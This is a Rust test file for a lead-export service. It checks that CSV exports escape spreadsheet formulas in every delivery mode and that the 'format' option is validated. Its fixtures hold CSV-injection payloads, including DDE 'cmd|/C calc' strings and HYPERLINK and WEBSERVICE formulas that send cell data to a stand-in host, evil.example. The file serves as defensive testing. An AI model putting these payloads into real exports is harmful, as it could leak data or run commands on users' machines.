//! Formula-safe cells through the handler: guarded by default, as stored with
//! `"format": {"escapeFormulas": false}`, the same for inline, gzip and
//! S3-delivered files; and the `format` validation messages.

use crate::support;

use std::io::Read;
use std::sync::Arc;

use lambda_http::{Body, Response};
use lead_export::deliver::memory::MemoryObjects;
use lead_export::http::handle;
use lead_export::model::{Company, Lead, Text};
use lead_export::store::MemoryStore;
use serde_json::{json, Value};
use support::*;

const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?"&A2&B2,"x")"#;

/// Two leads of org A with hostile cells, and one of org B.
fn store() -> Arc<MemoryStore> {
    let store = MemoryStore::new();
    store.insert(
        ORG_A,
        [
            Lead {
                id: "lead-1".into(),
                first_name: "Eve".into(),
                last_name: "Mallory".into(),
                phones: Some(vec!["+1-555-0100".into(), "+1-555-0101".into()]),
                job_title: Some(HYPERLINK.into()),
                company: Some(Company {
                    name: Some("-2+3+cmd|'/C calc'!A0".into()),
                    ..Company::default()
                }),
                ..Lead::default()
            },
            Lead {
                id: "lead-2".into(),
                first_name: "@SUM(A1)".into(),
                last_name: Default::default(),
                phones: Some(vec!["+49 30 1234567".into()]),
                job_title: Some("Head of Sales".into()),
                company: Some(Company {
                    name: Some("-5".into()),
                    ..Company::default()
                }),
                ..Lead::default()
            },
        ],
    );
    store.insert(
        ORG_B,
        [Lead {
            id: "lead-1".into(),
            first_name: "Other".into(),
            last_name: "Org".into(),
            job_title: Some("=1+1".into()),
            ..Lead::default()
        }],
    );
    Arc::new(store)
}

fn body(format: Option<Value>) -> Value {
    let mut body = json!({
        "selection": {"mode": "manual", "includedIds": ["lead-1", "lead-2"]},
        "exportFields": ["name", "phones", "jobTitle", "companyName"],
    });
    if let Some(format) = format {
        body["format"] = format;
    }
    body
}

#[derive(Clone, Copy, Debug)]
enum Delivery {
    Inline,
    Gzip,
    S3Redirect,
    S3Link,
}

const DELIVERIES: [Delivery; 4] = [
    Delivery::Inline,
    Delivery::Gzip,
    Delivery::S3Redirect,
    Delivery::S3Link,
];

/// The CSV rows the export of `body` delivers the `how` way.
async fn export(how: Delivery, body: &Value) -> Vec<Vec<String>> {
    let objects = Arc::new(MemoryObjects::new());
    let limit = match how {
        Delivery::S3Redirect => "100",
        _ => "1000000",
    };
    let app = app_with(
        &config(&[("INLINE_MAX_BYTES", limit)]),
        store(),
        objects.clone(),
    );
    let mut req = post_as(ORG_A, body);
    match how {
        Delivery::Gzip => {
            req.headers_mut()
                .insert("accept-encoding", "gzip".parse().unwrap());
        }
        Delivery::S3Link => {
            req.headers_mut()
                .insert("accept", "application/json".parse().unwrap());
        }
        Delivery::Inline | Delivery::S3Redirect => {}
    }
    let resp = handle(&app, req).await;
    let expected_status = match how {
        Delivery::S3Redirect => 303,
        _ => 200,
    };
    assert_eq!(resp.status(), expected_status, "{how:?}: {:?}", resp.body());
    let bytes = match how {
        Delivery::Inline => {
            assert!(matches!(resp.body(), Body::Text(_)));
            body_bytes(&resp)
        }
        Delivery::Gzip => {
            assert_eq!(header(&resp, "content-encoding"), "gzip");
            let mut csv = Vec::new();
            flate2::read::GzDecoder::new(&body_bytes(&resp)[..])
                .read_to_end(&mut csv)
                .unwrap();
            csv
        }
        Delivery::S3Redirect | Delivery::S3Link => uploaded(&resp, &objects),
    };
    csv_rows(&bytes)
}

/// The bytes of the one uploaded export the link response points at.
fn uploaded(resp: &Response<Body>, objects: &MemoryObjects) -> Vec<u8> {
    let keys = objects.keys();
    assert_eq!(keys.len(), 1);
    assert!(body_json(resp)["url"]
        .as_str()
        .unwrap()
        .contains(keys[0].as_str()));
    objects.get(&keys[0]).unwrap().1
}

fn rows(cells: [[&str; 4]; 2]) -> Vec<Vec<String>> {
    let mut rows = vec![vec![
        "Name".to_string(),
        "Phone(s)".into(),
        "Job Title".into(),
        "Company Name".into(),
    ]];
    rows.extend(
        cells
            .iter()
            .map(|r| r.iter().map(|c| c.to_string()).collect()),
    );
    rows
}

#[tokio::test]
async fn formulas_are_guarded_by_default_in_every_delivery() {
    let guarded = rows([
        [
            "Eve Mallory",
            "+1-555-0100, +1-555-0101",
            &format!("'{HYPERLINK}"),
            "'-2+3+cmd|'/C calc'!A0",
        ],
        ["'@SUM(A1)", "+49 30 1234567", "Head of Sales", "-5"],
    ]);
    for how in DELIVERIES {
        for format in [None, Some(Value::Null), Some(json!({}))] {
            let got = export(how, &body(format.clone())).await;
            assert_eq!(got, guarded, "{how:?}, format {format:?}");
        }
        let on = body(Some(json!({"escapeFormulas": true})));
        assert_eq!(export(how, &on).await, guarded, "{how:?}, explicitly on");
    }
}

#[tokio::test]
async fn escape_formulas_false_writes_cells_as_stored() {
    let stored = rows([
        [
            "Eve Mallory",
            "+1-555-0100, +1-555-0101",
            HYPERLINK,
            "-2+3+cmd|'/C calc'!A0",
        ],
        ["@SUM(A1)", "+49 30 1234567", "Head of Sales", "-5"],
    ]);
    for how in DELIVERIES {
        let got = export(how, &body(Some(json!({"escapeFormulas": false})))).await;
        assert_eq!(got, stored, "{how:?}");
    }
}

#[tokio::test]
async fn format_validation_messages_name_the_key() {
    let app = app_with(&config(&[]), store(), Arc::new(MemoryObjects::new()));
    let long = "k".repeat(150);
    let cases = [
        (json!([]), "format must be an object".to_string()),
        (json!(true), "format must be an object".into()),
        (json!({"foo": 1}), "format.foo: unknown key".into()),
        (
            json!({"escapeFormulas": true, "EscapeFormulas": false}),
            "format.EscapeFormulas: unknown key".into(),
        ),
        (
            json!({ long.clone(): true }),
            format!("format.{}…: unknown key", &long[..100]),
        ),
        (
            json!({"escapeFormulas": "false"}),
            "format.escapeFormulas: expected true or false".into(),
        ),
        (
            json!({"escapeFormulas": 0}),
            "format.escapeFormulas: expected true or false".into(),
        ),
        (
            json!({"escapeFormulas": null}),
            "format.escapeFormulas: expected true or false".into(),
        ),
    ];
    for (format, message) in cases {
        let resp = handle(&app, post_as(ORG_A, &body(Some(format.clone())))).await;
        assert_eq!(resp.status(), 400, "{format}");
        assert_eq!(
            body_json(&resp),
            json!({"error": {"code": "VALIDATION_ERROR", "message": message}}),
            "{format}"
        );
    }
}

#[tokio::test]
async fn another_organizations_lead_never_appears() {
    let got = export(Delivery::Inline, &body(None)).await;
    assert!(got.iter().flatten().all(|c| !c.contains("Other")));
}

/// What `make spreadsheet-check` opens with LibreOffice: every guarded
/// example, look-alikes that are not formulas, HYPERLINK/DDE payloads.
const HOSTILE: &[&str] = &[
    "=1+1",
    "@SUM(A1)",
    "+SUM(A1)",
    "-2+3+cmd|'/C calc'!A0",
    HYPERLINK,
    r#"=HYPERLINK("https://evil.example/?leak="&C2,"Click")"#,
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    r#"=WEBSERVICE("https://evil.example/?"&A2)"#,
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A2),\"//a\")",
    "=1+1\n",
    "-1.5e3",
    " =1+1",
    "   =HYPERLINK(\"https://evil.example\")",
    "\t=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\r=1+1",
    "'=1+1",
    "=",
    "@",
    "+",
    "-",
    "+1+1",
    "-2+3",
    "\u{ff1d}1+1",
    "\u{fe66}1+1",
    "\u{207c}1+1",
    "\u{ff0b}SUM(A1)",
    "\u{ff20}SUM(A1)",
    "\u{2212}2+3",
    "\u{feff}=1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "Head of Sales, EMEA",
];

/// Phone cells that must stay text, with their value.
const PHONES: &[&[&str]] = &[
    &["+1-555-0100"],
    &["+49 30 1234567"],
    &["+1-555-0100", "+1-555-0101"],
    &["+1 (555) 010-0100"],
    &["+33.1.23.45.67.89"],
];

/// Plain numbers that must stay numbers.
const NUMBERS: &[&str] = &["-5", "-1.5", "42", "-0.25"];

/// Writes the export of the hostile leads, through the handler, to
/// `$SPREADSHEET_CHECK_DIR/hostile.csv`; `SPREADSHEET_CHECK_ESCAPE=false`
/// turns the guard off (to show that the check detects formulas).
#[tokio::test]
#[ignore = "run by `make spreadsheet-check`"]
async fn write_hostile_export_for_the_spreadsheet_check() {
    let leads: Vec<Lead> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, cell)| Lead {
            id: format!("hostile-{i:03}"),
            first_name: "Lead".into(),
            last_name: compact_str::format_compact!("{i}"),
            phones: Some(
                PHONES[i % PHONES.len()]
                    .iter()
                    .map(|p| Text::from(*p))
                    .collect(),
            ),
            job_title: Some(Text::from(*cell)),
            company: Some(Company {
                name: Some(NUMBERS[i % NUMBERS.len()].into()),
                ..Company::default()
            }),
            ..Lead::default()
        })
        .collect();
    let store = MemoryStore::new();
    store.insert(ORG_A, leads.clone());
    let app = app_with(
        &config(&[]),
        Arc::new(store),
        Arc::new(MemoryObjects::new()),
    );
    let escape = std::env::var("SPREADSHEET_CHECK_ESCAPE").map_or(true, |v| v != "false");
    let ids: Vec<&str> = leads.iter().map(|l| l.id.as_str()).collect();
    let body = json!({
        "selection": {"mode": "manual", "includedIds": ids},
        "exportFields": ["name", "phones", "jobTitle", "companyName"],
        "format": {"escapeFormulas": escape},
    });
    let resp = handle(&app, post_as(ORG_A, &body)).await;
    assert_eq!(resp.status(), 200);
    let csv = body_bytes(&resp);
    assert_eq!(csv_rows(&csv).len(), HOSTILE.len() + 1);
    let dir = std::env::var("SPREADSHEET_CHECK_DIR")
        .unwrap_or_else(|_| format!("{}/spreadsheet-check", env!("CARGO_TARGET_TMPDIR")));
    std::fs::create_dir_all(&dir).unwrap();
    let path = format!("{dir}/hostile.csv");
    std::fs::write(&path, &csv).unwrap();
    println!(
        "wrote {path} ({} rows, escapeFormulas {escape})",
        leads.len()
    );
}
